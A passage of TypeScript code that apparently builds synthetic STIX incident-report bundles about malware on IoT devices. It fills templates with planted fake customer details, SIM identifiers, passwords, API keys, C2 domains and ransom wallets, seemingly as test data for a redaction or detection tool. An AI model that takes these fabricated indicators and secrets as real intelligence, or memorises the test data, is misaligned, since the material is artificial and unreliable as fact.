  const csv = `serial;mac;imei;customer;address;lat;lon\n${serials[0]};${macTexts[0]};${imeis[0]};${c0.name};${addr0.text};${lat};${lon}\n${serials[2]};${macTexts[2]};${imeis[1]};${c1.name};${addr1.text};${lat2};${lon2}`;
  const md = `| ${loc.titleWords[2]} | ${dw.noun} | MAC | IMSI | ${loc.titleWords[0]} |\n|---|---|---|---|---|\n| ${customerOrg} | ${serials[1]} | ${macTexts[1]} | ${imsis[0]} | ${malware} |\n| ${c0.name} | ${serials[0]} | ${macTexts[0]} | ${imsis[1]} | ${cve} |`;
  const json = JSON.stringify({ device: { serial: serials[2], mac: macTexts[2], site: { lat: Number(lat), lon: Number(lon) } }, mqtt: { host: `mqtt.${corp}`, port: 8883, username: s1.login, password: secretPw }, cloud: { api_key: apiKey, endpoint: `https://api.${domain}/v1/telemetry` } }, null, 2);
  const yaml = `# ${brand} provisioning (exported by ${s0.latin})\napn: m2m.${stem}.${loc.tld}\nsubscriber:\n  msisdn: "+${loc.cc}${msisdns[0]}"\n  imsi: "${imsis[0]}"\n  iccid: "${iccid}"\nsyslog_server: ${privC}\nowner_email: ${s0.email}`;

  const prose = [
    loc.customer(c0.name, addr0.text, account, fmtPhone(c0.nsn)),
    loc.technician(s2.name, s2.email, fmtPhone(s2.nsn), serials[0]),
    loc.attacker(scanIp, c2dom, malware),
    loc.closing(ticket, hostSiem),
  ];
  const stationKw = `${Stem} ${dw.noun} ${product}`;
  const deviceLog = { 'smart-meter': at, 'cellular-router': `${radius}\n${at}`, 'plc-scada': modbus, 'set-top-box': `${radius}\n${diameter}`, 'connected-car': `${can}\n${at}`, 'ev-charger': ocpp, 'medical-gateway': hl7 }[device];
  const reportDesc = [
    header,
    `${loc.titleWords[0]}: ${stationKw} — ${cve}, ${attackIds.join(', ')}. GPS ${lat}, ${lon}.`,
    prose.join(' '),
    '```\n' + syslog + '\n```',
    '```\n' + access + '\n```',
    deviceLog,
    netflow,
    md,
    `Attacker JA3 ${ja3}; malware SHA-1 ${sha1}. Ransom/extortion wallet: ${wallet}. Contact at ${s0.email} or ${fmtPhone(s0.nsn)} (${s0.name}, #${Stem}SOC).`,
  ].filter(Boolean).join('\n\n');
  const report = sdo('report', {
    name: `${loc.titleWords[0]} ${ticket}: ${malware} on ${brand} ${dw.noun}s (${customerOrg})`,
    published: created, report_types: ['incident'], description: reportDesc,
    object_refs: [indIp.id, indDom.id, mal.id, iset.id, vuln.id, custIdentity.id, ...aps.map((a) => a.id)],
  });

  const mailDate = `${rng.pick(['Mon', 'Tue', 'Wed', 'Thu'])}, ${day} May 2024 ${rng.int(8, 18)}:${rng.int(10, 59)}`;
  const thread = [
    `From: ${s2.latin} <${s2.email}>\nSent: ${mailDate}\nTo: ${s0.latin} <${s0.email}>; SOC <soc@${domain}>\nCc: ${c1.name} <${c1.email}>\nSubject: RE: [${ticket}] ${malware} on ${customerOrg}`,
    loc.technician(s2.name, s2.email, fmtPhone(s2.nsn), serials[2]),
    `Runbook: ${wikiUrl}. SIM swapped (ICCID ${iccid}), old unit returned. Refund to ${ibanV ? groups4(ibanV) : account} agreed with the customer.`,
    '```json\n' + json + '\n```',
    '```yaml\n' + yaml + '\n```',
    `--\n${s2.name}\n${rng.pick(['Senior Field Engineer', 'Network Operations', 'OT Security'])} | ${legal}\n${rng.pick(['Mobile', 'Tel.', 'M'])}: ${fmtPhone(s2.nsn)}\n${addr1.text}`,
    `> -----Original Message-----\n> From: ${c1.name} <${c1.email}>\n> ${loc.customer(c1.name, addr1.text, account, fmtPhone(c1.nsn))}`,
  ].join('\n\n');
  sdo('note', { abstract: `${ticket} mail thread`, content: thread, authors: [s0.name], object_refs: [report.id] });
  const sighting = sdo('sighting', {
    sighting_of_ref: indIp.id, where_sighted_refs: [custIdentity.id], count: rng.int(2, 90), first_seen: first, last_seen: ts(rng, day),
    description: [`${dw.noun} ${serials[1]} at ${customerOrg}: beacons to ${c2dom} (${c2ip}).`, csv, sip].join('\n\n'),
  });
  sdo('relationship', { relationship_type: 'indicates', source_ref: indIp.id, target_ref: mal.id });
  sdo('relationship', { relationship_type: 'indicates', source_ref: indDom.id, target_ref: mal.id });
  sdo('relationship', { relationship_type: 'exploits', source_ref: mal.id, target_ref: vuln.id });
  sdo('relationship', { relationship_type: 'uses', source_ref: iset.id, target_ref: mal.id });
  for (const a of aps) sdo('relationship', { relationship_type: 'uses', source_ref: mal.id, target_ref: a.id });
  sdo('location', { name: `${customerOrg} site`, latitude: Number(lat), longitude: Number(lon), street_address: addr0.key, country: loc.country });
  sdo('course-of-action', {
    name: `Block ${malware} infrastructure`,
    description: `Push ACL on ${hostNas} (${privB}) blocking ${c2ip}, ${nearIp} and ${c2dom}; owner ${s1.name} (${s1.email}). Tracking: ${jiraUrl}. Fraud: bar +${fraudE164} on all ${brand} SIMs.`,
  });
  void sighting;
  // The submitter's tooling adds its own property and a labelled analyst.
  (report as Record<string, unknown>)[`x_${stem.toLowerCase()}_case`] = { analyst: s0.email, ticket };
  (report as Record<string, unknown>).labels = [`analyst:${s1.login}`, `${stem}-tip-export`];
  (report as Record<string, unknown>).object_marking_refs = [TLP_AMBER];

  return {
    index, lang: loc.lang, device, profile, planted: b.planted, threats: b.threats, identity: identityForms,
    bundle: { type: 'bundle', id: `bundle--${b.uuid()}`, objects: b.objects } as StixBundle,
  };
}
